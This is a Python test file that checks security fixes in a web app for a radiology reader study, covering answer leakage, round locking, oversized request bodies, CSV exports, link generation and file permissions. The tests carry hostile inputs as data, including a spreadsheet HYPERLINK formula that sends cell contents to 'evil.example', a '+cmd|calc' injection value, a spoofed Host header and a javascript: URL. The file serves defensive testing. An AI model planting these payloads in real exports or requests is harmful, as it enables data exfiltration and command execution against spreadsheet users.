"""A hostile reader (and a careless admin machine) against the study: each test replays one
probe that used to work and checks that it is now refused or harmless.

1. the answer leaked through asset file times and build order;
2. round-1 answers changed after seeing Method B, and visuals fetched outside the round;
3. huge bodies read (into memory) before the token was checked;
4. reader text landing as a live formula in CSV exports;
5. links built from the Host header, a user's ``.NAME.partial`` folder deleted, and a
   world-readable database of tokens and ground truth.
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import sqlite3
import stat
import threading
import time
import tracemalloc
import warnings
from pathlib import Path

import httpx
import pytest
import torch
from typer.testing import CliRunner

from gifsplanation.cli import app as cli_app
from gifsplanation.cli import common
from gifsplanation.cli import study as study_cli
from gifsplanation.study import build
from gifsplanation.study.analysis import analyze
from gifsplanation.study.build import PARTIAL_MARKER, create_study, read_cases
from gifsplanation.study.design import METHOD_VISUALS
from gifsplanation.study.export import FORMULA_STARTS, export_answers, write_csv
from gifsplanation.study.server import MAX_BODY_BYTES, create_app
from gifsplanation.study.store import ClosedError, StudyStore
from gifsplanation.testing import (
    TargetsOnly,
    ThreadServer,
    fake_render_case_assets,
    make_study,
    write_cases_csv,
)

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # starlette's notice about httpx2
    from fastapi.testclient import TestClient


def _auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _separates(labels_in_order: list[bool]) -> bool:
    """Whether an ordering puts every TP before every FP (or the reverse)."""
    flips = sum(a != b for a, b in zip(labels_in_order, labels_in_order[1:], strict=False))
    return flips <= 1


def _zeros(path: str) -> torch.Tensor:
    return torch.zeros(1, 1, 8, 8)


# -- 1. the study leaks the answer ----------------------------------------------------------


def test_asset_headers_ids_and_build_order_do_not_reveal_tp_or_fp(tmp_path, monkeypatch) -> None:
    # the probe: CASES.csv lists the 12 TPs first (as `study select` wrote it), each case
    # takes ~14 s to render, and the reader sorts the assets by Last-Modified
    clock = [1_700_000_000.0]
    monkeypatch.setattr(build, "render_case_assets", fake_render_case_assets(clock))
    cases_csv = write_cases_csv(tmp_path / "cases.csv", n_per_group=12)
    store = create_study(
        cases_csv, tmp_path / "study", TargetsOnly(), None, loader=_zeros, threshold=None, seed=7
    )
    truth = {c.public_id: c.truth for c in store.cases()}
    assert sum(truth.values()) == 12 and len(truth) == 24
    reader = store.add_reader("eve", seed=3)
    client = TestClient(create_app(store.root))

    # everything the reader can fetch, the way the page fetches it
    fetched: list[tuple[str, str, dict[str, str], bytes]] = []  # case, kind, headers, body
    for position in range(24):
        view = client.get(f"/api/reader/case/1/{position}", headers=_auth(reader.token)).json()
        urls = [("image", view["image"])] + [(v["kind"], v["url"]) for v in view["visuals"]]
        for kind, url in urls:
            res = client.get(url)
            assert res.status_code == 200, url
            fetched.append((view["case"], kind, dict(res.headers), res.content))
    assert {case for case, *_ in fetched} == set(truth)

    # no file time at all: no Last-Modified, and within a kind of asset every header is the
    # same for every case except the content's own length and hash (and the response date)
    assert not any("last-modified" in h for _, _, h, _ in fetched)
    for kind in {k for _, k, _, _ in fetched}:
        rows = [(h, body) for _, k, h, body in fetched if k == kind]
        names = set().union(*(h.keys() for h, _ in rows))
        for name in names - {"content-length", "etag", "date"}:
            assert len({h.get(name) for h, _ in rows}) == 1, (kind, name)
        for h, body in rows:
            assert int(h["content-length"]) == len(body)
    # the ETag depends on the content only: touching a file does not change it
    case0, kind0, headers0, body0 = fetched[0]
    asset = store.asset_path(store.case_by_public_id(case0).assets[kind0])
    os.utime(asset, (1.0, 1.0))
    again = client.get(f"/r/{reader.token}/assets/{case0}/{asset.name}")
    assert again.content == body0 and again.headers.get("etag") == headers0.get("etag")
    assert "last-modified" not in again.headers
    etag_hit = client.get(
        f"/r/{reader.token}/assets/{case0}/{asset.name}",
        headers={"If-None-Match": headers0["etag"]},
    )
    assert etag_hit.status_code == 304 and "last-modified" not in etag_hit.headers

    # sorting by any header (date aside), by case id or by the page order leaks nothing
    by_case: dict[str, dict[str, str]] = {}
    for case, kind, headers, _ in fetched:
        for name, value in headers.items():
            by_case.setdefault(case, {})[f"{kind}:{name}"] = value
    keys = set().union(*(v.keys() for v in by_case.values()))
    for key in sorted(k for k in keys if not k.endswith(":date")):
        order = sorted(truth, key=lambda c, key=key: (by_case[c].get(key, ""), c))
        assert not _separates([truth[c] for c in order]), key
    assert not _separates([truth[c] for c in sorted(truth)])  # ids
    ids_csv = cases_csv.read_text()
    assert not any(case in ids_csv for case in truth)  # ids are not derived from the rows

    # the build itself ran in a seeded, recorded random order, so neither the files' times
    # on disk nor the database's row order follow the CSV
    meta = store.meta()
    order = json.loads(meta["build_order"])
    assert meta["build_seed"] == "7" and sorted(order) == list(range(24))
    assert order != list(range(24))
    stored = store.cases()
    assert not _separates([c.truth for c in stored])
    by_mtime = sorted(stored, key=lambda c: store.asset_path(c.assets["image"]).stat().st_mtime)
    assert not _separates([c.truth for c in by_mtime])
    again_store = create_study(
        cases_csv, tmp_path / "study2", TargetsOnly(), None, loader=_zeros, threshold=None, seed=7
    )
    assert json.loads(again_store.meta()["build_order"]) == order  # seeded: reproducible


def test_study_select_writes_cases_in_a_seeded_shuffled_order(tmp_path, monkeypatch) -> None:
    import gifsplanation.models as models

    class Clf:
        targets = ("COVID-19",)
        input_size = 8

    images = tmp_path / "images.csv"
    rows = [f"img{i}.png,{'COVID-19' if i < 10 else 'Normal'}" for i in range(20)]
    images.write_text("image,label\n" + "\n".join(rows) + "\n")
    monkeypatch.setattr(models, "get_classifier", lambda name, device="cpu": Clf())
    monkeypatch.setattr(study_cli, "_loader", lambda size: _zeros)
    monkeypatch.setattr(
        "gifsplanation.study.build.predict_images",
        lambda paths, clf, loader: [[0.9] for _ in paths],
    )
    runner = CliRunner()

    def select(seed: int, out: Path) -> list[dict[str, str]]:
        res = runner.invoke(cli_app, ["study", "select", str(images), "--out", str(out),
                                      "--per-target", "20", "--seed", str(seed)])  # fmt: skip
        assert res.exit_code == 0, res.output
        with open(out, newline="") as f:
            return list(csv.DictReader(f))

    first = select(1, tmp_path / "a.csv")
    labels = [r["label"] == "1" for r in first]
    assert sorted(labels) == [False] * 10 + [True] * 10
    assert not _separates(labels)
    assert select(1, tmp_path / "b.csv") == first  # seeded
    assert [r["image"] for r in select(2, tmp_path / "c.csv")] != [r["image"] for r in first]


# -- 2. round rules ----------------------------------------------------------------------


def _finish_round_1(client: TestClient, headers: dict[str, str], n: int) -> list[dict]:
    views = []
    for position in range(n):
        view = client.get(f"/api/reader/case/1/{position}", headers=headers).json()
        for question in ("confidence", "feature"):
            body = {"case": view["case"], "round": 1, "question": question, "value": 2}
            assert client.put("/api/reader/answers", json=body, headers=headers).status_code == 200
        views.append(view)
    return views


def test_round_one_answers_are_final_once_round_two_opens(study: StudyStore) -> None:
    reader = study.add_reader("eve", seed=5)
    client = TestClient(create_app(study.root))
    h = _auth(reader.token)
    n = len(study.cases())
    views = _finish_round_1(client, h, n)
    change = {"case": views[0]["case"], "round": 1, "question": "confidence", "value": 5}
    # round 1 is complete but round 2 not opened: round-1 answers may still be revised
    assert client.put("/api/reader/answers", json=change, headers=h).status_code == 200
    rounds = client.get("/api/reader", headers=h).json()["rounds"]
    assert [r["status"] for r in rounds] == ["open", "ready"]
    # the reader opens round 2 and sees Method B on some case...
    assert client.get("/api/reader/case/2/0", headers=h).status_code == 200
    with study.connect() as con:
        before = con.execute("SELECT COUNT(*) FROM answer_history").fetchone()[0]
    # ...then goes back to change round-1 answers: refused, clearly, and nothing is stored
    for value in (1, 3, 4):
        res = client.put("/api/reader/answers", json=change | {"value": value}, headers=h)
        assert res.status_code == 409
        assert "round 1 answers are final" in res.json()["detail"]
    res = client.get("/api/reader/case/1/0", headers=h)
    assert res.status_code == 409 and "final" in res.json()["detail"]
    with pytest.raises(ClosedError, match="final"):
        study.save_answer(reader.id, views[0]["case"], 1, "confidence", 1)
    with study.connect() as con:
        assert con.execute("SELECT COUNT(*) FROM answer_history").fetchone()[0] == before
    answers = {(r["case_id"], r["round"], r["question"]): r["value"] for r in study.answer_rows()}
    assert answers[(views[0]["case"], 1, "confidence")] == 5
    rounds = client.get("/api/reader", headers=h).json()["rounds"]
    assert [r["status"] for r in rounds] == ["final", "open"]
    assert study.open_round(reader.id) == 2
    # round 2 answers work (and stay editable: there is no round 3)
    second = client.get("/api/reader/case/2/0", headers=h).json()
    for value in (1, 4):
        body = {"case": second["case"], "round": 2, "question": "feature", "value": value}
        assert client.put("/api/reader/answers", json=body, headers=h).status_code == 200


def test_round_two_answer_opens_round_two_and_old_studies_are_migrated(tmp_path) -> None:
    study = make_study(tmp_path / "study")
    reader = study.add_reader("eve", seed=6)
    public = {c.id: c.public_id for c in study.cases()}
    for slot in study.schedule(reader.id):
        for question in ("confidence", "feature"):
            study.save_answer(reader.id, public[slot.case_id], slot.round, question, 3)
    assert study.open_round(reader.id) == 2  # the first round-2 answer opened it
    # a study made before rounds were recorded: round 2 counts as opened at its first answer
    with study.connect(write=True) as con:
        con.execute("DELETE FROM rounds_opened")
        con.execute("DROP TABLE rounds_opened")
        con.execute("UPDATE meta SET value = '1' WHERE key = 'schema_version'")
    migrated = StudyStore(study.root)
    assert migrated.meta()["schema_version"] == "2"
    assert migrated.open_round(reader.id) == 2
    with pytest.raises(ClosedError):
        migrated.save_answer(reader.id, public[study.schedule(reader.id)[0].case_id], 1,
                             "feature", 1)  # fmt: skip


def test_reader_fetches_only_the_visuals_of_the_open_round(study: StudyStore) -> None:
    reader = study.add_reader("eve", seed=8)
    client = TestClient(create_app(study.root))
    h = _auth(reader.token)
    cases = {c.id: c for c in study.cases()}
    base = f"/r/{reader.token}/assets/"

    def check(round_: int) -> None:
        for slot in (s for s in study.schedule(reader.id) if s.round == round_):
            case = cases[slot.case_id]
            assert client.get(base + case.assets["image"]).status_code == 200
            for method, visuals in METHOD_VISUALS.items():
                for kind, _ in visuals:
                    res = client.get(base + case.assets[kind])
                    if method == slot.method:
                        assert res.status_code == 200, (round_, kind)
                    else:  # the other method's visual of this case is not shown now
                        assert res.status_code == 403, (round_, kind)
                        assert f"open round (round {round_})" in res.json()["detail"]

    check(1)
    _finish_round_1(client, h, len(cases))
    check(1)  # round 1 complete, round 2 not opened yet: still round 1's visuals
    assert client.get("/api/reader/case/2/0", headers=h).status_code == 200
    check(2)


# -- 3. request limits -------------------------------------------------------------------

BIG = 50 * 2**20  # 50 MB
PIECE = b"x" * 2**16


class Counting:
    """ASGI wrapper counting the request-body bytes the app actually receives."""

    def __init__(self, app) -> None:
        self.app, self.read = app, 0

    async def __call__(self, scope, receive, send) -> None:
        async def counted():
            message = await receive()
            self.read += len(message.get("body", b""))
            return message

        await self.app(scope, counted, send)


def _send_big_body(port: int, token: str | None, chunked: bool) -> dict:
    """PUT a 50 MB body (streamed by a second thread) and time the server's answer."""
    sock = socket.create_connection(("127.0.0.1", port))
    head = "PUT /api/reader/answers HTTP/1.1\r\nHost: study\r\nContent-Type: application/json\r\n"
    if token:
        head += f"Authorization: Bearer {token}\r\n"
    head += "Transfer-Encoding: chunked\r\n\r\n" if chunked else f"Content-Length: {BIG}\r\n\r\n"
    frame = b"%x\r\n%s\r\n" % (len(PIECE), PIECE) if chunked else PIECE
    sent, finished = [0], threading.Event()

    def stream() -> None:
        try:
            while sent[0] < BIG:
                sock.sendall(frame)
                sent[0] += len(PIECE)
            if chunked:
                sock.sendall(b"0\r\n\r\n")
            finished.set()
        except OSError:  # the server answered and closed the connection
            pass

    start = time.monotonic()
    sock.sendall(head.encode())
    sender = threading.Thread(target=stream, daemon=True)
    sender.start()
    sock.settimeout(120)
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(2**16)
        if not chunk:
            break
        data += chunk
    seconds = time.monotonic() - start
    body_finished = finished.is_set()
    sock.close()
    sender.join(30)
    status = int(data.split(b" ", 2)[1]) if data else 0
    return {"status": status, "seconds": seconds, "body_finished": body_finished,
            "sent": sent[0], "response": data}  # fmt: skip


@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
@pytest.mark.parametrize("who", ["nobody", "reader"])
def test_large_bodies_are_refused_before_they_are_read(study, who, chunked) -> None:
    reader = study.add_reader("eve", seed=9)
    app = Counting(create_app(study.root))
    token = reader.token if who == "reader" else None
    with ThreadServer(study.root, app=app) as server:
        tracemalloc.start()
        try:
            result = _send_big_body(server.port, token, chunked)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        # the server still answers readers afterwards
        ok = httpx.get(server.url + "/api/reader", headers=_auth(reader.token), timeout=30)
        assert ok.status_code == 200
    assert result["status"] == (401 if who == "nobody" else 413), result["response"][:300]
    assert not result["body_finished"]  # answered before the body was consumed
    slack = 0 if not chunked else MAX_BODY_BYTES + 2**19  # at most one network read beyond
    assert app.read <= slack, app.read  # with Content-Length: not one byte read
    assert peak < 8 * 2**20, peak  # vs. > 100 MB when the body was read into memory
    assert result["seconds"] < 20, result["seconds"]  # generous: shared, loaded CPUs
    with study.connect() as con:
        assert con.execute("SELECT COUNT(*) FROM answer_history").fetchone()[0] == 0


def test_small_refused_bodies_still_get_their_answer(study) -> None:
    reader = study.add_reader("eve", seed=9)
    client = TestClient(create_app(study.root, max_body=1024))
    body = {"case": study.cases()[0].public_id, "round": 1, "question": "feature", "value": 3}
    res = client.put("/api/reader/answers", json=body)
    assert res.status_code == 401 and "token" in res.json()["detail"]
    json_type = {"Content-Type": "application/json"}
    padded = b"{" + b" " * 2000 + b"}"
    res = client.put("/api/reader/answers", content=padded, headers=_auth(reader.token) | json_type)
    assert res.status_code == 413 and "1024 bytes" in res.json()["detail"]
    res = client.put("/api/reader/answers", json=body, headers=_auth(reader.token))
    assert res.status_code == 200


# -- 4. exports ----------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_export_neutralises_formula_cells(tmp_path) -> None:
    study = make_study(tmp_path / "study")
    with study.connect(write=True) as con:  # admin-side text that a reader may have chosen
        con.execute("UPDATE cases SET source = '+cmd|calc', label = '@SUM(1)' WHERE id = 1")
    reader = study.add_reader("-2+3", seed=1)
    other = study.add_reader("bob", seed=2)
    client = TestClient(create_app(study.root))
    public = {c.id: c.public_id for c in study.cases()}
    for who in (reader, other):
        for slot in study.schedule(who.id):
            for question, value in (("confidence", 2), ("feature", 4)):
                body = {"case": public[slot.case_id], "round": slot.round,
                        "question": question, "value": value}  # fmt: skip
                headers = _auth(who.token) | {"User-Agent": EVIL if who is reader else "\tx"}
                assert client.put("/api/reader/answers", json=body, headers=headers).is_success
    admin = _auth(study.admin_token)
    texts = {
        "served": client.get("/api/admin/export.csv", headers=admin).text,
        "served history": client.get("/api/admin/export.csv?history=true", headers=admin).text,
        "answers.csv": export_answers(study.root).read_text(),
        "answer_history.csv": export_answers(study.root, history=True).read_text(),
    }
    result = analyze(study.root, tmp_path / "analysis")
    for name, path in result.files.items():
        if str(path).endswith(".csv"):
            texts[name] = Path(path).read_text()
    for name, text in texts.items():
        bad = [c for c in _cells(text) if c.startswith(FORMULA_STARTS)]
        assert bad == [], name
    history = texts["answer_history.csv"]
    assert "'" + EVIL in _cells(history) and "'\tx" in _cells(history)
    assert "'-2+3" in _cells(texts["answers.csv"]) and "'+cmd|calc" in _cells(history)
    # numbers stay numbers, and a CASES.csv written by us reads back as written
    write_csv(tmp_path / "n.csv", [{"a": -0.5, "b": "-0.5"}], ("a", "b"))
    assert _cells((tmp_path / "n.csv").read_text()) == ["a", "b", "-0.5", "'-0.5"]
    write_csv(tmp_path / "cases.csv", [{"image": "-x.png", "target": "=t", "label": "1"}],
              ("image", "target", "label"))  # fmt: skip
    spec = read_cases(tmp_path / "cases.csv")[0]
    assert (Path(spec.image).name, spec.target) == ("-x.png", "=t")


# -- 5. links and files ------------------------------------------------------------------


def test_admin_links_come_from_the_configured_base_url_not_the_host_header(tmp_path) -> None:
    study = make_study(tmp_path / "study")
    study.add_reader("ann", seed=1)
    admin = _auth(study.admin_token) | {"Host": "evil.example:666"}

    def links(app) -> list[str]:
        client = TestClient(app, base_url="http://evil.example:666")
        made = client.post("/api/admin/readers", json={"name": f"r{time.monotonic_ns()}"},
                           headers=admin)  # fmt: skip
        assert made.status_code == 201
        listed = client.get("/api/admin/readers", headers=admin).json()
        return [made.json()["link"]] + [r["link"] for r in listed]

    for link in links(create_app(study.root)):
        assert link.startswith("http://127.0.0.1:8000/r/") and "evil" not in link
    study.set_base_url("https://study.example.org/cxr/")
    for link in links(create_app(study.root)):
        assert link.startswith("https://study.example.org/cxr/r/")
    for link in links(create_app(study.root, base_url="http://10.0.0.5:8000")):
        assert link.startswith("http://10.0.0.5:8000/r/")
    with pytest.raises(ValueError, match="base URL"):
        create_app(study.root, base_url="javascript:alert(1)")
    # the CLI stores it and uses it for every link it prints
    runner = CliRunner()
    res = runner.invoke(cli_app, ["study", "config", str(study.root), "--base-url",
                                  "https://readers.example.net"])  # fmt: skip
    assert res.exit_code == 0 and "https://readers.example.net" in res.output
    res = runner.invoke(cli_app, ["study", "add-reader", str(study.root), "zed"])
    assert res.exit_code == 0 and res.stdout.startswith("https://readers.example.net/r/")
    res = runner.invoke(cli_app, ["study", "config", str(study.root), "--base-url", "ftp://x"])
    assert res.exit_code == 2 and res.output.startswith("error:") and "base URL" in res.output


def test_create_never_deletes_a_partial_folder_it_did_not_make(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(build, "render_case_assets", fake_render_case_assets([0.0]))
    cases_csv = write_cases_csv(tmp_path / "cases.csv", n_per_group=2)
    partial = tmp_path / ".study.partial"
    partial.mkdir()
    (partial / "notes.txt").write_text("my own work")
    with pytest.raises(FileExistsError) as err:
        create_study(cases_csv, tmp_path / "study", TargetsOnly(), None, loader=_zeros)
    message = str(err.value)
    assert "\n" not in message and str(partial) in message and "move or delete" in message
    assert (partial / "notes.txt").read_text() == "my own work"
    assert not (tmp_path / "study").exists()
    # the command says the same in one line and exits 2 (--out is taken)
    monkeypatch.setattr(common, "load_models", lambda c, a, device, need_autoencoder=True: (
        TargetsOnly(), None))  # fmt: skip
    monkeypatch.setattr(study_cli, "_loader", lambda size: _zeros)
    res = CliRunner().invoke(cli_app, ["study", "create", str(cases_csv), "--out",
                                       str(tmp_path / "study")])  # fmt: skip
    errors = [line for line in res.output.splitlines() if line.startswith("error:")]
    assert res.exit_code == 2 and len(errors) == 1, res.output
    assert "was not made by `study create`" in errors[0]
    assert (partial / "notes.txt").is_file()
    # a leftover of our own (an interrupted run: marker inside) is cleaned up and rebuilt
    (partial / "notes.txt").unlink()
    (partial / PARTIAL_MARKER).write_text("")
    (partial / "half-done.png").write_bytes(b"x")
    store = create_study(cases_csv, tmp_path / "study", TargetsOnly(), None, loader=_zeros)
    assert len(store.cases()) == 4 and not partial.exists()
    assert not (store.root / PARTIAL_MARKER).exists()
    # a symlink by that name is refused too, and its target left alone
    target = tmp_path / "elsewhere"
    target.mkdir()
    (tmp_path / ".other.partial").symlink_to(target)
    with pytest.raises(FileExistsError, match="was not made by"):
        create_study(cases_csv, tmp_path / "other", TargetsOnly(), None, loader=_zeros)
    assert target.is_dir()


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_database_and_its_wal_files_are_owner_only(tmp_path, monkeypatch) -> None:
    old = os.umask(0o022)  # the usual umask: files would be world-readable
    try:
        monkeypatch.setattr(build, "render_case_assets", fake_render_case_assets([0.0]))
        cases_csv = write_cases_csv(tmp_path / "cases.csv", n_per_group=1)
        store = create_study(cases_csv, tmp_path / "study", TargetsOnly(), None, loader=_zeros)
        db = store.path
        assert _mode(db) == 0o600
        assert _mode(store.root) & 0o077 == 0
        # while a connection is open the WAL and SHM files exist: owner-only too
        con = sqlite3.connect(db)
        try:
            con.execute("PRAGMA journal_mode").fetchone()
            store.add_reader("ann")  # a write through another connection
            wal, shm = Path(f"{db}-wal"), Path(f"{db}-shm")
            assert wal.is_file() and shm.is_file()
            assert _mode(wal) == 0o600 and _mode(shm) == 0o600
        finally:
            con.close()
        # a database made world-readable by an older version is narrowed when opened
        db.chmod(0o644)
        StudyStore(store.root)
        assert _mode(db) == 0o600
    finally:
        os.umask(old)
